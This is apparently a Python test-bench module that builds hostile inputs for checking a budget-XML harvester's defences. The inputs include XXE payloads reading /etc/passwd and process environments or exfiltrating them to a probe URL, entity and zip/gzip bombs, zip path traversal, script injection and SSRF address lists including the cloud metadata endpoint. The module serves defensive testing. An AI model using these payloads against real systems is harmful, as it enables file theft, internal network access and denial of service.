"""The hostile corpus of `bench/hostile.py`: what each case serves and how.

A ``Case`` is one hostile thing a community's site (or an attacker posing as one) could serve. Its
``respond`` callable answers one HTTP request on the bench's local server; documents derived from
a real sample are built in memory (the sample is read, never copied), huge bodies are generated
lazily while they are sent. ``level`` says where the harvest must notice it: ``document`` cases
are listed by URL in one source (an object error each), ``source`` cases are the URL of a source
of their own (a gather error, or an object error for an archive entry), ``ssrf`` cases are URLs
that must be refused before any connection.
"""
from __future__ import annotations

import codecs
import csv
import gzip
import io
import itertools
import random
import re
import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler

from locations import SHARED_DATA

SHARED_TOTEM = SHARED_DATA / "totem"
# The smallest sample (an annex budget, 21 lines): the base of every mutated document.
BASE_SAMPLE = SHARED_TOTEM / "crach-lotissement-bp-2022.xml"
MEGABYTE = 2**20

Respond = Callable[[BaseHTTPRequestHandler], None]


@dataclass
class Case:
    name: str
    category: str
    level: str                     # "document", "source" or "ssrf"
    respond: Respond | None = None  # None: the URL is not served by the bench (SSRF targets)
    url: str | None = None          # for SSRF cases: the URL as given to the harvest source
    source_config: dict | None = None
    # A hostile-looking document that is nonetheless a valid budget may be imported (into a
    # dataset of its own): then no error is expected.
    may_import: bool = False
    # A source whose only entries are skipped by design (encrypted) lists no document, no error.
    may_list_nothing: bool = False
    # A catalogue source: the path of its page (not /case/<name>), the routes its API answers on,
    # and its page cap (NetworkLimits.max_page_bytes) when it is not production's.
    source_path: str | None = None
    routes: dict[str, Respond] = field(default_factory=dict)
    max_page_bytes: int | None = None

    @property
    def path(self) -> str:
        if self.source_path is not None:
            return self.source_path
        return f"/case/{self.name}" + ("" if self.level == "source" and self.source_config else ".xml")


# --- answering ---------------------------------------------------------------------------------


def body(data: bytes, content_type: str = "application/xml", headers: dict | None = None,
         status: int = 200) -> Respond:
    def respond(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        handler.send_header("Content-Type", content_type)
        for name, value in (headers or {}).items():
            handler.send_header(name, value)
        handler.send_header("Content-Length", str(len(data)))
        handler.end_headers()
        handler.wfile.write(data)
    return respond


def stream(chunks: Callable[[], Iterable[bytes]], content_length: int | None = None,
           content_type: str = "application/xml") -> Respond:
    """A body generated while it is sent; without a length, the end of the body is the connection's."""
    def respond(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", content_type)
        if content_length is not None:
            handler.send_header("Content-Length", str(content_length))
        handler.end_headers()
        handler.close_connection = True
        try:
            for chunk in chunks():
                if handler.server.stopping.is_set():
                    return
                handler.wfile.write(chunk)
        except OSError:  # the client gave up: that is the point
            pass
    return respond


def raw(data: bytes, then_wait: bool = False) -> Respond:
    """Bytes written as they are on the socket, no HTTP framing added."""
    def respond(handler: BaseHTTPRequestHandler) -> None:
        handler.close_connection = True
        try:
            handler.wfile.write(data)
            handler.wfile.flush()
        except OSError:
            return
        if then_wait:
            handler.server.stopping.wait(3600)
    return respond


def trickle(prefix: bytes, interval: float, seconds: float) -> Respond:
    """Headers, then one byte every ``interval`` s for ``seconds``, then silence."""
    def respond(handler: BaseHTTPRequestHandler) -> None:
        stopping = handler.server.stopping
        handler.send_response(200)
        handler.send_header("Content-Type", "application/xml")
        handler.end_headers()
        handler.close_connection = True
        try:
            handler.wfile.write(prefix)
            handler.wfile.flush()
            for count in itertools.count():
                if count * interval >= seconds:
                    break
                if stopping.wait(interval):
                    return
                handler.wfile.write(b" ")
                handler.wfile.flush()
        except OSError:  # the client gave up
            return
        stopping.wait(3600)
    return respond


def redirect(location: Callable[[BaseHTTPRequestHandler], str], status: int = 302) -> Respond:
    def respond(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        handler.send_header("Location", location(handler))
        handler.send_header("Content-Length", "0")
        handler.end_headers()
    return respond


def stall_after_headers(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "application/xml")
    handler.send_header("Content-Length", "100000")
    handler.end_headers()
    handler.wfile.write(b"<?xml version='1.0'?>")
    handler.wfile.flush()
    handler.close_connection = True
    handler.server.stopping.wait(3600)


def stall_before_headers(handler: BaseHTTPRequestHandler) -> None:
    handler.close_connection = True
    handler.server.stopping.wait(3600)


def base_url(handler: BaseHTTPRequestHandler) -> str:
    return handler.server.base_url


# --- documents ---------------------------------------------------------------------------------


def base_text() -> str:
    return BASE_SAMPLE.read_bytes().decode("iso-8859-1")


def own_budget(text: str, name: str) -> str:
    """The base document as an annex budget of its own (CodBud = case name): if a case imports,
    it creates its own dataset and never touches the good samples'."""
    code = "H" + re.sub(r"[^A-Za-z0-9]", "", name)[:20].upper()
    return text.replace('<CodBud V="06"/>', f'<CodBud V="{code}"/>', 1)


def latin1(text: str) -> bytes:
    return text.encode("iso-8859-1", errors="xmlcharrefreplace")


def replace_first(text: str, element: str, value: str) -> str:
    return re.sub(rf'<{element} V="[^"]*"/>', lambda _m: f'<{element} V="{value}"/>', text, count=1)


def remove_element(text: str, element: str) -> str:
    """Remove the first <element …/> or <element>…</element>."""
    pattern = rf"<{element}(?:\s[^>]*)?/>|<{element}(?:\s[^>]*)?>.*?</{element}>"
    return re.sub(pattern, "", text, count=1, flags=re.DOTALL)


def label(value: str) -> str:
    """A value as a short name usable in a URL path: non-ASCII shown as its code point."""
    return re.sub(r"[^A-Za-z0-9]+", "_", value.encode("ascii", "backslashreplace").decode()).strip("_")[:16] or "blank"


def with_doctype(text: str, doctype: str) -> str:
    declaration, _, rest = text.partition("?>")
    return f"{declaration}?>\n{doctype}{rest}"


def document_cases(probe_path: str) -> list[Case]:
    """``probe_path``: a path on the bench's server that no case serves; a hit there is a leak."""
    text = base_text()
    cases: list[Case] = []

    def add(category: str, name: str, data: bytes | Respond, *, content_type: str = "application/xml",
            may_import: bool = False) -> None:
        respond = data if callable(data) else body(data, content_type)
        cases.append(Case(f"{category}-{name}", category, "document", respond, may_import=may_import))

    def mutated(name: str, change: Callable[[str], str]) -> bytes:
        return latin1(change(own_budget(text, name)))

    # XXE: every DTD is refused before parsing, whatever it declares.
    targets = {"passwd": "file:///etc/passwd", "hostname": "file:///etc/hostname",
               "environ": "file:///proc/self/environ", "shadow": "/etc/shadow",
               "probe": "{probe}", "php": "php://filter/resource=/etc/passwd", "expect": "expect://id"}
    for target_name, target in targets.items():
        for element in ("LibelleEtab", "IdEtab", "Nature"):
            name = f"{target_name}-in-{element.lower()}"
            add("xxe", name, lambda handler, name=name, target=target, element=element: body(mutated(
                f"xxe-{name}", lambda t: with_doctype(
                    replace_first(t, element, "&xxe;"),
                    '<!DOCTYPE DocumentBudgetaire [<!ENTITY xxe SYSTEM '
                    f'"{target.format(probe=base_url(handler) + probe_path)}">]>'
                )))(handler))
    for name, doctype in {
        "parameter-entity": '<!DOCTYPE d [<!ENTITY % p SYSTEM "{probe}"> %p;]>',
        "parameter-entity-exfiltration": '<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd">'
                                         '<!ENTITY % e "<!ENTITY x SYSTEM \'{probe}?%f;\'>"> %e;]>',
        "external-dtd": '<!DOCTYPE DocumentBudgetaire SYSTEM "{probe}">',
        "public-dtd": '<!DOCTYPE DocumentBudgetaire PUBLIC "-//x//y" "{probe}">',
        "local-dtd": '<!DOCTYPE DocumentBudgetaire SYSTEM "file:///etc/passwd">',
        "doctype-lowercase": '<!doctype DocumentBudgetaire SYSTEM "{probe}">',
    }.items():
        add("xxe", name, lambda handler, name=name, doctype=doctype: body(mutated(
            f"xxe-{name}", lambda t: with_doctype(t, doctype.format(probe=base_url(handler) + probe_path))))(handler))
    # XInclude needs no DTD; the reader never processes it, so the element is just unknown.
    add("xxe", "xinclude", lambda handler: body(mutated("xxe-xinclude", lambda t: t.replace(
        "<EnTeteDocBudgetaire>", '<EnTeteDocBudgetaire><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{base_url(handler) + probe_path}" parse="text"/>', 1)))(handler), may_import=True)
    add("xxe", "doctype-after-60k-comment", mutated("xxe-late", lambda t: with_doctype(
        t, "<!--" + "x" * 60_000 + "-->" + '<!DOCTYPE d [<!ENTITY a "b">]>')))
    add("xxe", "doctype-after-70k-comment", mutated("xxe-later", lambda t: with_doctype(
        t, "<!--" + "x" * 70_000 + "-->" + '<!DOCTYPE d [<!ENTITY a "b">]>')))

    # Entity bombs.
    for depth in (3, 6, 10):
        entities = '<!ENTITY l0 "lol">' + "".join(
            f'<!ENTITY l{level} "{("&l" + str(level - 1) + ";") * 10}">' for level in range(1, depth + 1))
        for element in ("LibelleEtab", "Nature"):
            # mutated() calls the change at once; the defaults bind this iteration's values all the same.
            add("bomb", f"billion-laughs-{depth}-{element.lower()}", mutated(
                f"bomb-{depth}{element}", lambda t, element=element, depth=depth, entities=entities: with_doctype(
                    replace_first(t, element, f"&l{depth};"), f"<!DOCTYPE d [{entities}]>")))
    for size_kb, references in ((100, 1000), (1000, 100)):
        add("bomb", f"quadratic-{size_kb}k-x{references}", mutated(
            f"quad{size_kb}", lambda t, size_kb=size_kb, references=references: with_doctype(
                replace_first(t, "LibelleEtab", "&a;" * references),
                f'<!DOCTYPE d [<!ENTITY a "{"a" * size_kb * 1024}">]>')))
    add("bomb", "recursive-entity", mutated("bomb-rec", lambda t: with_doctype(
        replace_first(t, "LibelleEtab", "&a;"), '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')))
    add("bomb", "undeclared-entity", mutated("bomb-undeclared", lambda t: replace_first(t, "LibelleEtab", "&nowhere;")))
    add("bomb", "char-ref-zero", mutated("bomb-charref", lambda t: replace_first(t, "LibelleEtab", "&#0;")))
    add("bomb", "char-ref-huge", mutated("bomb-charref2", lambda t: replace_first(t, "LibelleEtab", "&#x110000;")))

    # Malformed and truncated XML.
    whole = latin1(own_budget(text, "trunc"))
    for fraction in range(1, 20):
        cut = len(whole) * fraction // 20
        add("malformed", f"truncated-{fraction * 5}pct", whole[:cut])
    for cut in (1, 5, 30, 38, 39, 45):
        add("malformed", f"truncated-at-{cut}-bytes", whole[:cut])
    rng = random.Random(7)
    malformed = {
        "empty": b"",
        "whitespace-only": b" \n\t " * 100,
        "declaration-only": b'<?xml version="1.0" encoding="UTF-8"?>',
        "nul-bytes": b"\x00" * 4096,
        "random-binary": bytes(rng.randrange(256) for _ in range(8192)),
        "nul-inside": mutated("nul", lambda t: t.replace("<Budget>", "<Budget>\x00", 1)),
        "control-chars": mutated("ctrl", lambda t: replace_first(t, "LibelleEtab", "\x01\x02\x1b[31m")),
        "unclosed-root": mutated("unclosed", lambda t: t.replace("</DocumentBudgetaire>", "")),
        "mismatched-tags": mutated("mismatch", lambda t: t.replace("</Budget>", "</Budgets>", 1)),
        "two-roots": mutated("tworoots", lambda t: t + t[t.index("<DocumentBudgetaire"):]),
        "garbage-after-root": mutated("garbage", lambda t: t + "<<<&&&>>>"),
        "unterminated-cdata": mutated("cdata", lambda t: t.replace("<Budget>", "<Budget><![CDATA[ never ends", 1)),
        "unquoted-attribute": mutated("unquoted", lambda t: t.replace('<Exer V="2022"/>', "<Exer V=2022/>", 1)),
        "duplicate-attribute": mutated("dupattr", lambda t: t.replace('<Exer V="2022"/>',
                                                                      '<Exer V="2022" V="2023"/>', 1)),
        "lt-in-attribute": mutated("ltattr", lambda t: replace_first(t, "LibelleEtab", "a<b")),
        "deep-nesting-100k": mutated("deep", lambda t: t.replace(
            "<Budget>", "<Budget>" + "<x>" * 100_000 + "</x>" * 100_000, 1)),
        "long-attribute-10mb": mutated("longattr", lambda t: replace_first(t, "LibelleEtab", "A" * (10 * MEGABYTE))),
        "long-tag-name": mutated("longtag", lambda t: t.replace("<Budget>", "<Budget><" + "T" * 100_000 + "/>", 1)),
        "million-attributes": mutated("attrs", lambda t: t.replace(
            "<Budget>", "<Budget><x " + " ".join(f"a{i}=''" for i in range(200_000)) + "/>", 1)),
        "wrong-namespace": mutated("ns", lambda t: t.replace(
            "http://www.minefi.gouv.fr/cp/demat/docbudgetaire", "urn:x", 1)),
        "no-namespace": mutated("nons", lambda t: t.replace(
            ' xmlns="http://www.minefi.gouv.fr/cp/demat/docbudgetaire"', "", 1)),
        "other-root": b'<?xml version="1.0"?><Budget xmlns="http://www.minefi.gouv.fr/cp/demat/docbudgetaire"/>',
        "two-budgets": mutated("twobudgets", lambda t: t.replace(
            "</Budget>", "</Budget>" + t[t.index("<Budget>"):t.index("</Budget>") + 9], 1)),
        "processing-instruction-flood": mutated("pis", lambda t: t.replace(
            "<Budget>", "<Budget>" + "<?pi x?>" * 100_000, 1)),
        "comment-flood": mutated("comments", lambda t: t.replace("<Budget>", "<Budget>" + "<!-- c -->" * 200_000, 1)),
    }
    well_formed_floods = ("million-attributes", "processing-instruction-flood", "comment-flood")
    for name, data in malformed.items():
        add("malformed", name, data, may_import=name in well_formed_floods)

    # Lying encodings.
    utf8 = own_budget(text, "enc").replace('encoding="ISO-8859-1"', 'encoding="UTF-8"', 1)
    declared_latin = own_budget(text, "enc2")
    encodings = {
        "latin1-declared-utf16-le-bom": codecs.BOM_UTF16_LE + declared_latin.encode("utf-16-le"),
        "latin1-declared-utf16-be-bom": codecs.BOM_UTF16_BE + declared_latin.encode("utf-16-be"),
        "latin1-declared-utf16-no-bom": declared_latin.encode("utf-16-le"),
        "latin1-declared-utf32": declared_latin.encode("utf-32"),
        "utf8-declared-latin1-bytes": utf8.encode("iso-8859-1"),
        "utf8-declared-lone-continuation": utf8.replace("BUDGET", "BUDGET\udc80", 1).encode("utf-8", "surrogateescape"),
        "utf8-declared-overlong": utf8.replace("BUDGET", "BUDGET\udcc0\udcaf", 1).encode("utf-8", "surrogateescape"),
        "utf8-declared-surrogate": (utf8.replace("BUDGET", "BUDGET\udced\udca0\udc80", 1)
                                    .encode("utf-8", "surrogateescape")),
        "utf8-bom-declared-latin1": codecs.BOM_UTF8 + declared_latin.encode("utf-8"),
        "utf16-bom-declared-utf8": codecs.BOM_UTF16_LE + utf8.encode("utf-16-le"),
        "utf8-bom-twice": codecs.BOM_UTF8 * 2 + utf8.encode("utf-8"),
        "declared-ebcdic": declared_latin.replace('encoding="ISO-8859-1"', 'encoding="cp500"', 1).encode("cp500"),
        "declared-unknown": latin1(declared_latin.replace('encoding="ISO-8859-1"', 'encoding="x-klingon"', 1)),
        "declared-utf7": latin1(declared_latin.replace('encoding="ISO-8859-1"', 'encoding="UTF-7"', 1)),
        "declared-empty": latin1(declared_latin.replace('encoding="ISO-8859-1"', 'encoding=""', 1)),
        "shift-jis-bytes": declared_latin.replace('encoding="ISO-8859-1"', 'encoding="Shift_JIS"', 1).replace(
            "BUDGET", "予算", 1).encode("shift_jis", errors="replace"),
    }
    for name, data in encodings.items():
        # libxml2 decodes by the BOM, which here tells the truth: the text is read correctly.
        add("encoding", name, data, may_import=name == "utf8-bom-declared-latin1")

    # Something else served as XML.
    not_xml = {
        "html-page": (b"<!DOCTYPE html><html><head><title>Budget</title></head><body><p>Budget 2022</p></body></html>",
                      "application/xml"),
        "html-no-doctype": (b"<html><body>Erreur 500</body></html>", "text/html"),
        "xhtml": (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', "application/xml"),
        "json-object": (b'{"budget": 2022, "lines": []}', "application/json"),
        "json-array": (b"[1, 2, 3]", "application/xml"),
        "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "application/pdf"),
        "zip-bytes": (zip_of({"a.xml": whole}), "application/xml"),
        "gzip-bytes": (gzip.compress(whole), "application/xml"),
        "png": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, "image/png"),
        "plain-text": (b"Budget primitif 2022\n", "text/plain"),
        "csv": (b"BGT_NATDEC;BGT_ANNEE\n01;2022\n", "text/csv"),
        "rss": (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>',
                "application/rss+xml"),
        "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
        "soap-fault": ((b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
                        b"<soap:Body><soap:Fault/></soap:Body></soap:Envelope>"), "text/xml"),
    }
    for name, (data, content_type) in not_xml.items():
        add("not-xml", name, data, content_type=content_type)

    # Absurd numbers and dates. Numbers xs:decimal allows (negative zero, 500 digits) may import.
    amounts = {"1e309": False, "1E309": False, "NaN": False, "nan": False, "Infinity": False,
               "-Infinity": False, "inf": False, "-0": True, "-0.00": True, "+0": True,
               "9" * 500: True, "0." + "1" * 500: True, "1,5": False, "1 000": False, "0x10": False,
               "": False, " ": False, "١٢٣": False, "１２３": False, "1e5": False, ".": False, "-": False,
               "--1": False, "1.2.3": False, "12abc": False, "-" + "9" * 500: True}
    for index, (value, valid) in enumerate(amounts.items()):
        add("numbers", f"amount-{index:02d}-{label(value)}",
            mutated(f"amt{index}", lambda t, value=value: replace_first(t, "MtPrev", value)), may_import=valid)
    header_values = {
        ("Exer", "99999"), ("Exer", "0"), ("Exer", "-2022"), ("Exer", "1999"), ("Exer", "2100"), ("Exer", ""),
        ("Exer", "20 22"), ("Exer", "2022.0"), ("Exer", "٢٠٢٢"), ("Exer", "9" * 500),
        ("DteDec", "99999-12-31"), ("DteDec", "0000-00-00"), ("DteDec", "2022-02-30"), ("DteDec", "yesterday"),
        ("NatDec", "99"), ("NatDec", ""), ("NatDec", "1"),
        ("IdEtab", "0" * 14), ("IdEtab", "2156004610008"), ("IdEtab", "ABCDEFGHIJKLMN"), ("IdEtab", "9" * 500),
        ("Nomenclature", "M999-M999"), ("Nomenclature", "../../etc/passwd"),
        ("Nomenclature", "M14-M14_COM_500_3500/../../x"),
        ("CodBud", "../../../etc"), ("CodBud", "<script>alert(1)</script>"),
    }
    for index, (element, value) in enumerate(sorted(header_values)):
        escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        # A strange decision date or budget code still makes a budget: those may import.
        # 00000000000000 passes the SIRET checksum (Luhn), as the schema's own check does.
        add("numbers", f"{element.lower()}-{index:02d}-{label(value)}",
            mutated(f"hdr{index}", lambda t, element=element, escaped=escaped: replace_first(t, element, escaped)),
            may_import=element in ("DteDec", "CodBud") or value == "0" * 14)

    # Missing headers.
    for element in ("IdEtab", "Exer", "Nomenclature", "Budget", "NatDec", "EnTeteDocBudgetaire",
                    "EnTeteBudget", "BlocBudget", "LibelleColl", "IdColl", "CodBud", "LibelleEtab"):
        # An annex with no CodBud or a budget with no names is still a budget.
        add("missing", f"no-{element.lower()}",
            mutated(f"miss{element}", lambda t, element=element: remove_element(t, element)),
            may_import=element in ("EnTeteDocBudgetaire", "LibelleColl", "IdColl", "CodBud", "LibelleEtab"))
    add("missing", "no-lines",
        mutated("nolines", lambda t: re.sub(r"<LigneBudget>.*?</LigneBudget>", "", t, flags=re.DOTALL)),
        may_import=True)
    add("missing", "empty-values", mutated("emptyvalues", lambda t: re.sub(r' V="[^"]*"', ' V=""', t)))

    cases.extend(transport_cases(whole))
    return cases


def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --- transport ---------------------------------------------------------------------------------


def endless_xml() -> Iterator[bytes]:
    yield b'<?xml version="1.0"?><DocumentBudgetaire xmlns="http://www.minefi.gouv.fr/cp/demat/docbudgetaire">'
    line = b"<LigneBudget><Nature V='6045'/><CodRD V='D'/><MtPrev V='1.00'/></LigneBudget>" * 800
    while True:
        yield line


def sized_xml(total: int) -> Callable[[], Iterator[bytes]]:
    def chunks() -> Iterator[bytes]:
        sent = 0
        for chunk in endless_xml():
            chunk = chunk[:total - sent]
            sent += len(chunk)
            yield chunk
            if sent >= total:
                return
    return chunks


def transport_cases(good: bytes) -> list[Case]:
    def case(name: str, respond: Respond, may_import: bool = False) -> Case:
        return Case(f"transport-{name}", "transport", "document", respond, may_import=may_import)

    def own_path(handler: BaseHTTPRequestHandler) -> str:
        return base_url(handler) + handler.path.split("?")[0]

    huge = 150 * MEGABYTE
    return [
        case("redirect-self", redirect(own_path)),
        case("redirect-ping-pong", redirect(lambda h: base_url(h) + "/case/transport-redirect-pong.xml")),
        Case("transport-redirect-pong", "transport", "document",
             redirect(lambda h: base_url(h) + "/case/transport-redirect-ping-pong.xml")),
        case("redirect-chain-7", redirect(lambda h: own_path(h) + "?hop=1" if "hop" not in h.path
                                          else own_path(h) + f"?hop={int(h.path.rsplit('=', 1)[1]) + 1}")),
        case("redirect-to-missing", redirect(lambda h: base_url(h) + "/nowhere.xml")),
        case("redirect-no-location", body(b"", headers={}, status=302)),
        case("redirect-to-file-scheme", redirect(lambda h: "file:///etc/passwd")),
        case("redirect-to-gopher", redirect(lambda h: "gopher://127.0.0.1:70/_x")),
        case("redirect-308-to-bad-port", redirect(lambda h: "http://127.0.0.1:99999/x.xml", 308)),
        case("http-404", body(b"not found", "text/plain", status=404)),
        case("http-410", body(b"gone", "text/plain", status=410)),
        case("http-500", body(b"Traceback (most recent call last):\n  File \"x\"", "text/plain", status=500)),
        case("http-503", body(b"", "text/plain", headers={"Retry-After": "999999"}, status=503)),
        case("http-401", body(b"", "text/plain", headers={"WWW-Authenticate": "Basic"}, status=401)),
        case("http-418", body(b"teapot", "text/plain", status=418)),
        case("http-204-empty", body(b"", status=204)),
        case("http-304-unasked", body(b"", status=304)),
        case("http-999", raw(b"HTTP/1.1 999 Weird\r\nContent-Length: 0\r\n\r\n")),
        case("http-0.9-garbage", raw(b"this is not http at all\r\n\r\n")),
        case("close-without-answer", raw(b"")),
        case("content-length-short", raw(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + good[:1000])),
        case("content-length-huge-declared", raw(b"HTTP/1.1 200 OK\r\nContent-Length: 999999999999\r\n\r\n" + good)),
        # http.client ignores an unreadable length and reads to the end: the document is whole.
        case("content-length-negative", raw(b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n" + good), True),
        case("content-length-letters", raw(b"HTTP/1.1 200 OK\r\nContent-Length: lots\r\n\r\n" + good), True),
        case("chunked-invalid", raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nZZZ\r\nabc\r\n0\r\n\r\n")),
        case("chunked-huge-chunk-size", raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                                            b"FFFFFFFFFFFFFFFF\r\nabc", then_wait=True)),
        case("huge-header-1mb", raw(b"HTTP/1.1 200 OK\r\nX-Big: " + b"a" * MEGABYTE + b"\r\n\r\n")),
        case("header-flood-10000", raw(b"HTTP/1.1 200 OK\r\n" + b"".join(
            b"X-H%d: v\r\n" % i for i in range(10_000)) + b"\r\n")),
        case("header-without-colon",
             raw(b"HTTP/1.1 200 OK\r\nthis header has no colon\r\nContent-Length: 3\r\n\r\nabc")),
        case("status-line-1mb", raw(b"HTTP/1.1 200 " + b"O" * MEGABYTE + b"\r\n\r\n")),
        case("stall-before-headers", stall_before_headers),
        case("stall-after-headers", stall_after_headers),
        case("trickle-then-stall", trickle(b"<?xml version='1.0'?>", 0.2, 3.0)),
        # One byte every 0.5 s for a minute, well past the download time budget, then silence.
        case("dribble-60s", trickle(b"<?xml version='1.0'?>", 0.5, 60.0)),
        case("endless-fast", stream(endless_xml)),
        case("huge-150mb-no-length", stream(sized_xml(huge))),
        case("huge-150mb-with-length", stream(sized_xml(huge), content_length=huge)),
        case("gzip-bomb-content-encoding", body(gzip.compress(b"\x00" * (50 * MEGABYTE)),
                                                headers={"Content-Encoding": "gzip"})),
    ]


# --- sources (archives, pages) -----------------------------------------------------------------


def zip_bomb_entry(size: int) -> bytes:
    """One entry of ``size`` zero bytes, deflated (about 1000:1), built without holding it whole."""
    buffer = io.BytesIO()
    with (zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
          archive.open("budget.xml", "w", force_zip64=True) as entry):
        block = b"\x00" * MEGABYTE
        for _ in range(size // MEGABYTE):
            entry.write(block)
    return buffer.getvalue()


def lying_size_zip() -> bytes:
    """An entry whose central directory claims a tiny size while it inflates to 200 MB."""
    data = bytearray(zip_bomb_entry(200 * MEGABYTE))
    # Patch the central directory's uncompressed size (zip64 extra keeps the real one; the
    # 32-bit field says 1000), so a reader trusting the header is fooled.
    central = data.rfind(b"PK\x01\x02")
    data[central + 24:central + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


def source_cases(good: bytes) -> list[Case]:
    def source(name: str, respond: Respond, config: dict) -> Case:
        return Case(f"source-{name}", "archive" if config.get("kind") == "zip" else "source", "source",
                    respond, source_config=config)

    zip_kind = {"kind": "zip"}
    index_kind = {"kind": "index"}
    return [
        source("zip-bomb-1gb", body(zip_bomb_entry(1024 * MEGABYTE), "application/zip"), zip_kind),
        source("zip-lying-size", body(lying_size_zip(), "application/zip"), zip_kind),
        source("zip-2000-entries", body(zip_of({f"d{i}.xml": b"<a/>" for i in range(2000)}), "application/zip"),
               zip_kind),
        source("zip-traversal", body(zip_of({"../../../tmp/budgetod-pwned.xml": good}), "application/zip"), zip_kind),
        source("zip-absolute-path", body(zip_of({"/etc/budgetod-pwned.xml": good}), "application/zip"), zip_kind),
        source("zip-backslash-traversal", body(zip_of({"..\\..\\budgetod-pwned.xml": good}), "application/zip"),
               zip_kind),
        source("zip-windows-drive", body(zip_of({"C:/budgetod-pwned.xml": good}), "application/zip"), zip_kind),
        source("zip-truncated", body(zip_of({"a.xml": good})[:-30], "application/zip"), zip_kind),
        source("zip-not-an-archive", body(b'{"json": true}', "application/zip"), zip_kind),
        source("zip-empty-file", body(b"", "application/zip"), zip_kind),
        source("zip-stored-entry-bad-crc", body(bad_crc_zip(good), "application/zip"), zip_kind),
        Case("source-zip-encrypted-flag", "archive", "source", body(encrypted_flag_zip(good), "application/zip"),
             source_config=zip_kind, may_list_nothing=True),
        source("index-redirect-loop", redirect(lambda h: base_url(h) + h.path), index_kind),
        source("index-endless-html", stream(lambda: itertools.chain(
            [b"<html><body>"], itertools.repeat(b"<p>" + b"x" * 8000 + b"</p>"))), index_kind),
        source("index-stall", stall_before_headers, index_kind),
        source("index-http-500", body(b"oops", "text/plain", status=500), index_kind),
        source("guess-json-content", body(b'{"not": "a page"}', "application/json"), {}),
        source("ckan-api-html", body(b"<html>maintenance</html>", "text/html"), {"kind": "ckan"}),
    ]


def bad_crc_zip(good: bytes) -> bytes:
    data = bytearray(zip_of({"budget.xml": good}, zipfile.ZIP_STORED))
    data[14:18] = b"\xde\xad\xbe\xef"  # local header CRC
    central = data.rfind(b"PK\x01\x02")
    data[central + 16:central + 20] = b"\xde\xad\xbe\xef"
    return bytes(data)


def encrypted_flag_zip(good: bytes) -> bytes:
    data = bytearray(zip_of({"budget.xml": good}))
    data[6] |= 1  # general purpose flag bit 0: encrypted
    central = data.rfind(b"PK\x01\x02")
    data[central + 8] |= 1
    return bytes(data)


# --- SSRF --------------------------------------------------------------------------------------


def ssrf_cases(port: int) -> list[Case]:
    """Addresses that must be refused before any connection. Those naming the bench's port would
    reach its server if they were not refused; the others are never contacted (a guard in
    `hostile.py` refuses any connection to a non-loopback address)."""
    targets = {
        "loopback": f"http://127.0.0.1:{port}/ssrf.xml",
        "loopback-127-1": f"http://127.1:{port}/ssrf.xml",
        "loopback-other": f"http://127.255.0.7:{port}/ssrf.xml",
        "decimal": f"http://2130706433:{port}/ssrf.xml",
        "octal": f"http://0177.0.0.1:{port}/ssrf.xml",
        "octal-whole": f"http://017700000001:{port}/ssrf.xml",
        "hex": f"http://0x7f000001:{port}/ssrf.xml",
        "hex-dotted": f"http://0x7f.0.0.1:{port}/ssrf.xml",
        "localhost": f"http://localhost:{port}/ssrf.xml",
        "localhost-upper": f"http://LOCALHOST:{port}/ssrf.xml",
        "localhost-dot": f"http://localhost.:{port}/ssrf.xml",
        "ipv6-loopback": f"http://[::1]:{port}/ssrf.xml",
        "ipv6-mapped": f"http://[::ffff:127.0.0.1]:{port}/ssrf.xml",
        "ipv6-mapped-hex": f"http://[::ffff:7f00:1]:{port}/ssrf.xml",
        "ipv6-nat64": f"http://[64:ff9b::7f00:1]:{port}/ssrf.xml",
        "ipv6-6to4": f"http://[2002:7f00:1::1]:{port}/ssrf.xml",
        "unspecified": f"http://0.0.0.0:{port}/ssrf.xml",
        "unspecified-short": f"http://0:{port}/ssrf.xml",
        "ipv6-unspecified": f"http://[::]:{port}/ssrf.xml",
        "metadata": "http://169.254.169.254/latest/meta-data/budget.xml",
        "metadata-decimal": "http://2852039166/latest/budget.xml",
        "link-local-v6": "http://[fe80::1]/budget.xml",
        "private-10": "http://10.0.0.1/budget.xml",
        "private-172-16": "http://172.16.0.1/budget.xml",
        "private-172-31": "http://172.31.255.254/budget.xml",
        "private-192-168": "http://192.168.1.1/budget.xml",
        "unique-local-v6": "http://[fc00::1]/budget.xml",
        "cgnat": "http://100.64.0.1/budget.xml",
        "multicast": "http://224.0.0.1/budget.xml",
        "broadcast": "http://255.255.255.255/budget.xml",
        "credentials-in-url": f"http://user@127.0.0.1:{port}/ssrf.xml",
    }
    return [Case(f"ssrf-{name}", "ssrf", "ssrf", url=url) for name, url in targets.items()]


# === Round 2, part A (issue 12: items 1, 2 and 9) =========================================


# Hostility across organisations and through what gets stored or rendered. Run by
# `hostile.py`'s run_round_two_a(): the "takeover" cases are served to a source of ANOTHER
# organisation; "markdown" and "formula" documents are valid and imported (their checks look at what
# was published); "address" and "datagouv" cases are sources of their own; "ssrf" adds fec0::/10.

